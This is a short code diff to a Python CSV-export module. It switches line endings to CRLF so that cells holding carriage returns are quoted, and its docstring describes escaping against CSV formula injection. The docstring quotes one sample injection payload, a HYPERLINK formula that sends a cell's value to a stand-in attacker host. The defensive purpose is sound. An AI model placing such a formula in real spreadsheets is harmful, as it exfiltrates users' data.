@@ -4,8 +4,9 @@ A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage ret
 Excel or LibreOffice (``=HYPERLINK("http://evil.example/?x="&A1,"click")``). Following OWASP's
 guidance on CSV injection, such a cell is written with a leading ``'``, which the spreadsheet shows
 as text. Only text cells: numbers stay numbers (``-3.5`` in a numeric column is written as it is).
-Every text cell holding a quote, comma, newline or carriage return is quoted, so an id holding
-them comes back whole.
+Lines end with CRLF (RFC 4180), so that every cell holding a quote, comma, newline or carriage
+return is quoted and an id holding them comes back whole (with a bare ``\n`` line end, Python's
+CSV writer leaves a lone carriage return unquoted, and readers split the row there).
 """
 
 from __future__ import annotations
@@ -49,6 +50,6 @@ def write_csv(frame: pd.DataFrame, target: str | Path | IO[str]) -> None:
         target,
         index=False,
         encoding="utf-8",
-        lineterminator="\n",
+        lineterminator="\r\n",
         quoting=csv.QUOTE_MINIMAL,
     )
